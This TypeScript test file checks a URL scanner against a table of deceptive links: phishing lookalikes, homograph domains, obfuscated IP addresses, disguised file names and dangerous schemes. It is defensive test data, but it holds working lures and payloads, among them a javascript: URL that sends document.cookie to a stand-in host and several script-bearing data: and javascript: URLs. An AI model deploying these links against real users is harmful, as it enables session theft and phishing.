import assert from 'node:assert/strict';
import { analyseUrl } from '../../../../src/services/scan/url/analysis/analyseUrl';

type Level = 'malicious' | 'suspicious' | 'informational';

/** The gravest weight of its findings: what becomes the verdict. */
function levelOf(text: string): Level {
  const analysis = analyseUrl(text);
  if (analysis.status !== 'analysed') assert.fail(`${text} is no URL`);
  const weights = analysis.findings.map(({ weight }) => weight);
  if (weights.includes('malicious')) return 'malicious';
  return weights.includes('suspicious') ? 'suspicious' : 'informational';
}

function rulesOf(text: string): readonly string[] {
  const analysis = analyseUrl(text);
  return analysis.status === 'analysed' ? analysis.findings.map(({ rule }) => rule) : [];
}

/** Link, least level, and the feature that must be among the reasons. */
const tricks: Readonly<Record<string, readonly (readonly [string, Level, string])[]>> = {
  'names of users that look like hosts': [
    ['https://google.com:x@evil.tk/login', 'malicious', 'userInfoLooksLikeHost'],
    ['https://www.paypal.com@198.51.100.7.nip.io/', 'malicious', 'userInfoLooksLikeHost'],
    ['https://github.com%2Fmicrosoft%2Fvscode@evil.example.net.co/', 'malicious', 'userInfoLooksLikeHost'],
    ['https://accounts.google.com@foo@evil.tk/', 'malicious', 'userInfoLooksLikeHost'],
    ['https://https:%2f%2fgithub.com@evil.tk/', 'malicious', 'userInfoLooksLikeHost'],
    ['https://bank.somebody.com@evil.tk/', 'suspicious', 'userInfoLooksLikeHost'],
    ['https://docs%2Freadme@somewhere.net/', 'suspicious', 'userInfoWithSlashes'],
    ['https://google.com⁄login@evil.tk/', 'malicious', 'userInfoLooksLikeHost'],
    ['https://google.com;@evil.tk/repo.git', 'malicious', 'userInfoLooksLikeHost'],
    ['https://google.com%40@evil.tk/', 'malicious', 'userInfoLooksLikeHost'],
  ],
  'addresses in other notations': [
    ['http://3627734734/', 'suspicious', 'addressNotation'],
    ['http://0xd83ad6ce/', 'suspicious', 'addressNotation'],
    ['http://0330.072.0326.0316/', 'suspicious', 'addressNotation'],
    ['http://0xd8.0x3a.0xd6.0xce/', 'suspicious', 'addressNotation'],
    ['http://216.3855054/', 'suspicious', 'addressNotation'],
    ['http://2130706433/admin', 'suspicious', 'addressNotation'],
    ['http://0x7f000001/', 'suspicious', 'addressNotation'],
    ['http://[::ffff:216.58.214.206]/', 'suspicious', 'mappedAddress'],
    ['http://[::ffff:d83a:d6ce]/', 'suspicious', 'mappedAddress'],
    ['http://８.８.８.８/', 'suspicious', 'addressNotation'],
    ['http://216.58.214.206/setup.exe', 'suspicious', 'publicAddress'],
    ['http://172.016.000.001/', 'suspicious', 'addressNotation'],
    ['http://[2002:808:808::]/setup.exe', 'suspicious', 'mappedAddress'],
  ],
  'brands that are not the domain': [
    ['https://paypal.com.evil.tk/', 'malicious', 'brandDomainInName'],
    ['https://accounts.google.com.sign-in.example.net.co/', 'suspicious', 'brandDomainInName'],
    ['https://github.com-login.net/', 'suspicious', 'brandDomainInName'],
    ['https://www-paypal-com.cloud-host.net/', 'suspicious', 'brandDomainInName'],
    ['https://paypal-login.com/', 'suspicious', 'brandAndBait'],
    ['https://secureamazon.net/', 'suspicious', 'brandAndBait'],
    ['https://apple-id-verify.com/', 'suspicious', 'brandAndBait'],
    ['https://paypal-verify.github.io/', 'suspicious', 'brandAndBait'],
    ['https://microsoft-support.web.app/', 'suspicious', 'brandAndBait'],
    ['https://paypal.top/', 'suspicious', 'brandOtherSuffix'],
    ['https://npmjs.com.help-center.tk/', 'malicious', 'brandDomainInName'],
    ['https://npmjs.mirror-of-all.net/', 'informational', 'brandMentioned'],
    ['https://live.com.somewhere.tk/', 'malicious', 'brandDomainInName'],
    ['https://x.com.somewhere.net/', 'suspicious', 'brandDomainInName'],
    ['https://microsoft.co/login', 'suspicious', 'brandOtherSuffix'],
    ['https://google.pw/', 'informational', 'brandOtherSuffix'],
    ['https://rust-lang.org.evil.tk/', 'malicious', 'brandDomainInName'],
    ['https://amazon.de.somewhere.net/', 'suspicious', 'brandDomainInName'],
    ['https://amazon.co.uk.somewhere.net/', 'suspicious', 'brandDomainInName'],
    ['https://crates-io.com/', 'suspicious', 'brandDomainInName'],
    ['https://npmjs-com.net/', 'suspicious', 'brandDomainInName'],
    ['https://discord.support/', 'suspicious', 'brandOtherSuffix'],
    ['https://raw.githubusercontent.com.co/x', 'informational', 'brandOtherSuffix'],
    ['https://registry-npmjs.org/', 'suspicious', 'brandService'],
    ['https://npmjs-registry.org/react', 'suspicious', 'brandService'],
    ['https://raw-githubusercontent.com/x/install.sh', 'suspicious', 'brandService'],
    ['https://store-steampowered.com/', 'suspicious', 'brandService'],
    ['https://vscode-marketplace.com/', 'suspicious', 'brandService'],
    ['https://usps-redelivery.top/', 'suspicious', 'brandAndBait'],
    ['https://dhl-paket.top/track', 'suspicious', 'brandMentioned'],
    ['https://walletconnect-verify.com/', 'suspicious', 'brandAndBait'],
    ['https://python-services.com/', 'suspicious', 'brandAndBait'],
    ['https://docker-auth.company.net/', 'informational', 'brandAndBait'],
  ],
  'names that look alike': [
    ['https://paypa1.com/', 'suspicious', 'lookalike'],
    ['https://rnicrosoft.com/login', 'suspicious', 'lookalike'],
    ['https://g00gle.com/', 'suspicious', 'lookalike'],
    ['https://arnazon.com/', 'suspicious', 'lookalike'],
    ['https://faceb00k.com/', 'suspicious', 'lookalike'],
    ['https://githud.com/', 'suspicious', 'oneSlip'],
    ['https://gihtub.com/x', 'suspicious', 'oneSlip'],
    ['https://npmjss.com/', 'informational', 'oneSlip'],
    ['https://pythonhosted.com/', 'informational', 'brandOtherSuffix'],
    ['https://registry.npmj5.org/', 'suspicious', 'lookalike'],
    ['https://gooogle.com/', 'suspicious', 'oneSlip'],
    ['https://dropb0x.com/', 'suspicious', 'lookalike'],
  ],
  homographs: [
    ['https://аррӏе.com/', 'malicious', 'homograph'],
    ['https://xn--80ak6aa92e.com/', 'malicious', 'homograph'],
    ['https://pаypal.com/', 'malicious', 'homograph'],
    ['https://xn--pypal-4ve.com/', 'malicious', 'homograph'],
    ['https://gíthub.com/', 'malicious', 'homograph'],
    ['https://gооgle.com/', 'malicious', 'homograph'],
    ['https://secure-pаypal.com/', 'malicious', 'homograph'],
    ['https://login.micrоsoft.evil.net/', 'malicious', 'homograph'],
    ['https://ạpple.com/', 'malicious', 'homograph'],
    ['https://zооm.net/', 'malicious', 'homograph'],
    ['https://über.de/', 'informational', 'homograph'],
  ],
  'mixed scripts': [
    ['https://exаmplе-bank.com/', 'suspicious', 'mixedScripts'],
    ['https://wikipediа.org/', 'malicious', 'homograph'],
    ['https://tοkenshop.com/', 'suspicious', 'mixedScripts'],
    ['https://xn--exmple-4nf.net/', 'suspicious', 'mixedScripts'],
  ],
  'what browsers make good': [
    ['https:\\\\evil-site.net\\login', 'suspicious', 'backslashes'],
    ['https://good-site.net\\@evil-site.net/', 'suspicious', 'backslashes'],
    ['https://ev\til-site.net/', 'suspicious', 'breaksInName'],
    ['ht\ntps://evil-site.net/', 'suspicious', 'breaksInName'],
    ['https://e%76il-site.net/', 'suspicious', 'percentEncodedHost'],
    ['https://%65%76%69%6c-site.net/', 'suspicious', 'percentEncodedHost'],
    ['https://ｅｖｉｌ-site.net/', 'suspicious', 'disguisedHost'],
    ['https://𝐞𝐯𝐢𝐥-site.net/', 'suspicious', 'disguisedHost'],
    ['https://ev\u00adil-site.net/', 'suspicious', 'disguisedHost'],
    ['https://google.com∕login.evil-site.net/', 'malicious', 'disguisedSeparator'],
    ['https://docs.somewhere.net⁄guide.evil-site.net/', 'suspicious', 'disguisedSeparator'],
  ],
  'files that are not what they seem': [
    ['https://files.somewhere.net/invoice.pdf.exe', 'suspicious', 'doubleExtension'],
    ['https://files.somewhere.net/photo.jpg%20%20%20%20%20.scr', 'suspicious', 'doubleExtension'],
    ['https://files.somewhere.net/report.docx.lnk?dl=1', 'suspicious', 'doubleExtension'],
    ['https://files.somewhere.net/annex%E2%80%AEfdp.exe', 'suspicious', 'turnedName'],
    ['https://files.somewhere.net/update.hta', 'suspicious', 'lureDownload'],
    ['http://cheap-files.top/setup.exe', 'informational', 'programDownload'],
    ['https://files.somewhere.net/invoice.pdf.js', 'suspicious', 'doubleExtension'],
    ['https://files.somewhere.net/invoice.pdf%00.exe', 'suspicious', 'doubleExtension'],
    ['https://files.somewhere.net/invoice.pdf.exe.', 'suspicious', 'doubleExtension'],
    ['https://files.somewhere.net/get?filename=invoice.pdf.exe', 'suspicious', 'doubleExtension'],
    ['https://cdn.discordapp.com/attachments/1/2/photo.scr', 'suspicious', 'lureDownload'],
    ['https://cdn.discordapp.com/attachments/1/2/setup.exe', 'informational', 'programDownload'],
    ['https://files.somewhere.net/console.msc', 'suspicious', 'lureDownload'],
  ],
  'dangerous schemes': [
    ['javascript:fetch("https://x.net/?"+document.cookie)', 'malicious', 'scriptUrl'],
    ['JaVaScRiPt:alert(1)', 'suspicious', 'scriptUrl'],
    [' java\nscript:alert(1)', 'suspicious', 'scriptUrl'],
    ['vbscript:msgbox("x")', 'suspicious', 'scriptUrl'],
    ['data:text/html,<script>alert(1)</script>', 'malicious', 'activeDataUrl'],
    ['data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'malicious', 'activeDataUrl'],
    ['data:image/svg+xml,<svg onload=alert(1)>', 'suspicious', 'activeDataUrl'],
    ['file://files.evil-site.net/share/doc.docx', 'suspicious', 'networkShare'],
    ['ms-msdt:/id PCWDiagnostic', 'suspicious', 'riskyHandler'],
    ['search-ms:query=x&crumb=location:\\\\evil', 'suspicious', 'riskyHandler'],
    ['javascript://%0aalert(document.cookie)', 'malicious', 'scriptUrl'],
    ['javascript://example.com/%zz%0aalert(1)', 'suspicious', 'scriptUrl'],
    ['data:application/octet-stream;base64,TVqQAAMAAAAEAAAA', 'suspicious', 'activeDataUrl'],
    ['file:////files.evil-site.net/share/doc.docx', 'suspicious', 'networkShare'],
  ],
  'links within links': [
    ['https://www.google.com/url?q=https://paypal.com.evil.tk/login', 'malicious', 'nestedUrl'],
    ['https://somewhere.net/redirect?url=https%3A%2F%2Fgoogle.com%40evil.tk', 'malicious', 'nestedUrl'],
    ['https://somewhere.net/go?to=javascript:alert(document.cookie)', 'malicious', 'nestedUrl'],
    ['https://somewhere.net/out?u=aHR0cHM6Ly9wYXlwYWwuY29tLmV2aWwudGsv', 'malicious', 'nestedUrl'],
    ['https://somewhere.net/out?u=https%253A%252F%252Felsewhere.org', 'informational', 'hiddenRedirect'],
    ['https://somewhere.net/login?next=//elsewhere.org/', 'informational', 'redirect'],
    ['https://somewhere.net/?x#/a?return=https://g00gle.com', 'suspicious', 'nestedUrl'],
    ['https://www.google.com/amp/s/paypal.com.evil.tk/login', 'malicious', 'nestedUrl'],
    ['https://www.bing.com/ck/a?u=a1aHR0cHM6Ly9wYXlwYWwuY29tLmV2aWwudGsv', 'malicious', 'nestedUrl'],
    ['https://somewhere.net/login?next=/%09/paypal.com.evil.tk', 'malicious', 'nestedUrl'],
  ],
  'where nobody can look': [
    ['https://bit.ly/3abcdef', 'informational', 'shortener'],
    ['https://t.co/abc', 'informational', 'shortener'],
    ['https://d1234.oast.fun/', 'suspicious', 'dataSink'],
    ['https://testsafebrowsing.appspot.com/s/phishing.html', 'malicious', 'blockedHost'],
    ['https://discord.com/api/webhooks/123456/abc', 'informational', 'chatHook'],
    ['http://shop.somewhere.net:31337/', 'informational', 'unusualPort'],
    ['https://abcd.ngrok-free.app/', 'informational', 'tunnel'],
    ['https://npmjs.help/', 'malicious', 'blockedHost'],
    ['https://files.pypihosted.org/packages/x.whl', 'malicious', 'blockedHost'],
  ],
};

const order: readonly Level[] = ['informational', 'suspicious', 'malicious'];

describe('Tricks with links', () => {
  for (const [what, rows] of Object.entries(tricks)) {
    describe(what, () => {
      for (const [text, least, rule] of rows) {
        it(JSON.stringify(text), () => {
          const found = rulesOf(text);
          assert.ok(found.includes(rule), `found only ${found.join(', ')}`);
          assert.ok(
            order.indexOf(levelOf(text)) >= order.indexOf(least),
            `${levelOf(text)}: ${found.join(', ')}`,
          );
        });
      }
    });
  }

  it('gives each a reason in words and a weight', () => {
    for (const [text] of Object.values(tricks).flat()) {
      const analysis = analyseUrl(text);
      assert.ok(analysis.status === 'analysed' && analysis.findings.length > 0);
      for (const { title, description = '', weight, severity } of analysis.findings) {
        assert.ok(
          title.length > 5 && description.length > 5 && /[.!?]$/.test(description),
          `${text}: ${title}: ${description}`,
        );
        if (weight === 'malicious') assert.notEqual(severity, 'info');
      }
    }
  });
});
